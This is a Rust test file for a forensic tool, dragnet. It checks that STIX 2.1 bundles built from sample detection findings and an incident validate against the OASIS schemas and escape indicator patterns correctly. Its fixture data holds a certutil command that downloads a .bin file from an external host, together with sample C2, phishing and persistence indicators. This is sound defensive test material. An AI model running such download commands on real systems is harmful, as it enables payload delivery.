//! The STIX bundle against the OASIS STIX 2.1 JSON schemas (the shared copies in
//! `$DRAGNET_SHARED/data/stix/schemas`), checked by Python's `jsonschema` through
//! `tests/validate_stix.py`: the bundle as a whole and every object against its type's schema.
//! A deliberately broken bundle must fail the same check.
//!
//! Skips loudly without the shared data or without Python's jsonschema, unless
//! `DRAGNET_REQUIRE_TOOLS=1` (then a missing validator fails the test).

use dragnet_attack::Candidate;
use dragnet_event::{Finding, Level, Provenance, RuleMeta, SourceFormat, Timestamp};
use dragnet_incident::{Entities, Incident, IncidentReport, Step, StepRule};
use dragnet_report::{indicators, stix, Digest, RunInfo};
use serde_json::{json, Value};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;

fn shared() -> Option<PathBuf> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let p = std::env::var("DRAGNET_SHARED")
        .map(PathBuf::from)
        .unwrap_or_else(|_| root.join("../shared"));
    let p = if p.is_relative() { root.join(p) } else { p };
    let schemas = p.join("data/stix/schemas");
    if schemas.join("common/bundle.json").is_file() {
        Some(schemas)
    } else {
        eprintln!("SKIPPED: no STIX schemas at {}", schemas.display());
        None
    }
}

fn t(s: &str) -> Timestamp {
    Timestamp::parse(s).unwrap()
}

fn finding(rule: &Arc<RuleMeta>, time: &str, host: &str, details: Value) -> Finding {
    let mut f = Finding::new(
        rule.clone(),
        Level::High,
        t(time),
        host,
        Provenance {
            path: "Security.evtx".into(),
            record: 42,
            format: SourceFormat::Evtx,
        },
    );
    f.details = details.as_object().unwrap().clone();
    f
}

fn inputs() -> (Vec<Finding>, IncidentReport) {
    let rule = Arc::new(RuleMeta {
        id: "5f1abf38-3f2b-4f69-8d2f-1f0f2c0d4b11".into(),
        title: "Certutil download".into(),
        author: "Florian Roth (Nextron Systems)".into(),
        tags: vec![
            "attack.command-and-control".into(),
            "attack.t1105".into(),
            "attack.defense-evasion".into(),
            "attack.t1027".into(),
        ],
        source: "sigmahq/rules/windows/process_creation/x.yml".into(),
        kind: "sigma".into(),
        ..Default::default()
    });
    let findings = vec![
        finding(
            &rule,
            "2026-03-02T10:11:45.333Z",
            "WS-42",
            json!({
                "Hashes": "SHA1=A94A8FE5CCB19BA61C4C0873D391E987982FBBD3,MD5=098F6BCD4621D373CADE4E832627B4F6,SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08",
                "CommandLine": "certutil -urlcache -f https://update.hobiter.com/a'b\\c.bin C:\\x",
                "DestinationIp": "47.83.8.198",
                "SourceIp": "10.32.1.10",
                "QueryName": "support.fortineat.com",
                "from": "IT <helpdesk@fortineat.com>",
                "ImagePath": "C:\\Windows\\rdr'dhd.exe",
                "PipeName": "\\E340C955",
                "ServiceName": "WindowsTempUpdate",
                "TaskName": "\\Microsoft\\Windows\\AppID\\EPolicyManager",
                "server_ips": ["2001:db8::1"],
            }),
        ),
        finding(
            &rule,
            "2026-03-02T11:00:00Z",
            "WS-43",
            json!({"QueryName": "support.fortineat.com"}),
        ),
    ];
    let step = Step {
        tactic: "command-and-control".into(),
        attack: vec!["T1105".into()],
        time: t("2026-03-02T10:11:45Z"),
        last: t("2026-03-02T11:00:00Z"),
        hosts: vec!["WS-42".into(), "WS-43".into()],
        accounts: vec!["CORP\\l.fischer".into()],
        level: Level::High,
        rules: vec![StepRule {
            id: rule.id.clone(),
            title: rule.title.clone(),
            author: rule.author.clone(),
            level: Level::High,
            count: 2,
        }],
        count: 2,
        evidence: vec![findings[0].source.clone()],
        summary: "certutil downloaded a file".into(),
    };
    let inc = Incident {
        id: "INC-0001".into(),
        score: 87.5,
        level: Level::High,
        title: "Download and C2 on 2 hosts".into(),
        narrative: "certutil fetched a payload; the hosts then beaconed.".into(),
        first: t("2026-03-02T10:11:45Z"),
        last: t("2026-03-02T11:00:00Z"),
        tactics: vec!["command-and-control".into()],
        attack: vec!["T1105".into(), "T1027".into()],
        steps: vec![step],
        entities: Entities {
            ips: vec!["47.83.8.198".into()],
            domains: vec!["support.fortineat.com".into()],
            ..Default::default()
        },
        edges: vec![],
        attribution: vec![
            Candidate {
                name: "APT41".into(),
                id: "G0096".into(),
                aliases: vec!["Wicked Panda".into()],
                source: "attack".into(),
                score: 0.62,
                matched: vec!["T1105".into()],
                partial: vec![],
                unmatched: vec!["T1027".into()],
            },
            Candidate {
                name: "Ink Dragon".into(),
                id: "ink-dragon".into(),
                aliases: vec![],
                source: "profile".into(),
                score: 0.5,
                matched: vec!["T1105".into(), "T1027".into()],
                partial: vec![],
                unmatched: vec![],
            },
        ],
        findings: 2,
    };
    (
        findings,
        IncidentReport {
            incidents: vec![inc],
            edges: vec![],
            unassigned_findings: 0,
        },
    )
}

fn info() -> RunInfo {
    RunInfo {
        tool: "dragnet test".into(),
        generated: t("2026-03-04T00:00:00Z"),
        org: "CERT Example".into(),
        files: 3,
        records: 1000,
        ..Default::default()
    }
}

/// Runs the validator; None when it cannot run (skip), Some((ok, output)) otherwise.
fn validate(schemas: &Path, bundle: &Value, tag: &str) -> Option<(bool, String)> {
    let dir = std::env::temp_dir().join(format!("dragnet-stix-{}-{tag}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("bundle.json");
    std::fs::write(&file, serde_json::to_vec_pretty(bundle).unwrap()).unwrap();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/validate_stix.py");
    let out = Command::new("python3")
        .arg(&script)
        .arg(schemas)
        .arg(&file)
        .output();
    let _ = std::fs::remove_dir_all(&dir);
    let require = std::env::var("DRAGNET_REQUIRE_TOOLS").is_ok_and(|v| v == "1");
    let out = match out {
        Ok(o) => o,
        Err(e) => {
            assert!(
                !require,
                "python3 not runnable: {e} (DRAGNET_REQUIRE_TOOLS=1)"
            );
            eprintln!("######## SKIPPED: python3 not runnable: {e}");
            return None;
        }
    };
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    match out.status.code() {
        Some(0) => Some((true, text)),
        Some(1) => Some((false, text)),
        _ => {
            assert!(
                !require,
                "STIX validator could not run (DRAGNET_REQUIRE_TOOLS=1): {text}"
            );
            eprintln!("################################################################");
            eprintln!("## SKIPPED: STIX schema validation: {}", text.trim());
            eprintln!("## (python3 -m pip install jsonschema)");
            eprintln!("################################################################");
            None
        }
    }
}

#[test]
fn bundle_validates_against_the_stix_schemas_and_broken_ones_do_not() {
    let Some(schemas) = shared() else { return };
    let (findings, report) = inputs();
    let iocs = indicators::extract(&findings, &report);
    let bundle = stix::bundle(&Digest::of(&findings, 100), &report, &iocs, &info());

    // What the bundle holds, by type.
    let objects = bundle["objects"].as_array().unwrap();
    let count = |t: &str| objects.iter().filter(|o| o["type"] == t).count();
    for t in [
        "identity",
        "indicator",
        "observed-data",
        "sighting",
        "attack-pattern",
        "intrusion-set",
        "relationship",
        "report",
        "ipv4-addr",
        "ipv6-addr",
        "domain-name",
        "url",
        "email-addr",
        "file",
        "directory",
    ] {
        assert!(count(t) > 0, "no {t} in the bundle");
    }
    assert_eq!(
        count("report"),
        2,
        "one report for the run, one for the incident"
    );
    assert_eq!(count("intrusion-set"), 2);
    // Private addresses are not shared.
    assert!(!bundle.to_string().contains("10.32.1.10"));
    // Patterns escape quotes and backslashes.
    let patterns: Vec<&str> = objects
        .iter()
        .filter_map(|o| o["pattern"].as_str())
        .collect();
    assert!(
        patterns.contains(&"[url:value = 'https://update.hobiter.com/a']"),
        "{patterns:#?}"
    );
    assert!(patterns.contains(&"[ipv4-addr:value = '47.83.8.198']"));
    assert!(patterns.contains(&"[file:hashes.'SHA-256' = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08']"));
    assert!(patterns.contains(
        &"[file:name = 'rdr\\'dhd.exe' AND file:parent_directory_ref.path = 'C:\\\\Windows']"
    ));
    // ATT&CK references.
    let ap = objects
        .iter()
        .find(|o| {
            o["type"] == "attack-pattern" && o["external_references"][0]["external_id"] == "T1105"
        })
        .expect("T1105 attack pattern");
    assert_eq!(ap["external_references"][0]["source_name"], "mitre-attack");
    assert_eq!(
        ap["external_references"][0]["url"],
        "https://attack.mitre.org/techniques/T1105/"
    );
    // Same input, same bundle.
    assert_eq!(
        bundle,
        stix::bundle(&Digest::of(&findings, 100), &report, &iocs, &info())
    );

    let Some((ok, out)) = validate(&schemas, &bundle, "good") else {
        return;
    };
    assert!(ok, "the bundle must validate:\n{out}");
    eprintln!("STIX validation: {}", out.trim());

    // A broken indicator (no pattern) must fail.
    let mut broken = bundle.clone();
    let ind = broken["objects"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .find(|o| o["type"] == "indicator")
        .unwrap();
    ind.as_object_mut().unwrap().remove("pattern");
    let (ok, out) = validate(&schemas, &broken, "no-pattern").expect("validator ran before");
    assert!(
        !ok,
        "a bundle with an indicator without pattern must fail:\n{out}"
    );
    assert!(out.contains("'pattern' is a required property"), "{out}");

    // An SCO with a malformed id and a bad IPv4 value must fail.
    let mut broken = bundle.clone();
    let ip = broken["objects"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .find(|o| o["type"] == "ipv4-addr")
        .unwrap();
    ip["id"] = json!("ipv4-addr--not-a-uuid");
    ip["value"] = json!("999.1.1.1");
    let (ok, out) = validate(&schemas, &broken, "bad-sco").expect("validator ran before");
    assert!(!ok, "a malformed SCO must fail:\n{out}");
}
